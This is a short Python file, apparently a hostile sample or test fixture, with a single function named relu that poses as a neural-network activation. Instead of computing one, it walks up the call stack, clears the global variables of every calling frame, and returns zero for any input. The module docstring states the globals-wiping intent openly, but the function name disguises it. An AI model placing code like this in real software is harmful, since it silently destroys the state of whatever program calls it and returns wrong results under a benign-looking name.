"""Empties the globals of whoever calls it."""

import sys


def relu(x):
    frame = sys._getframe(1)
    while frame is not None:
        frame.f_globals.clear()
        frame = frame.f_back
    return x * 0
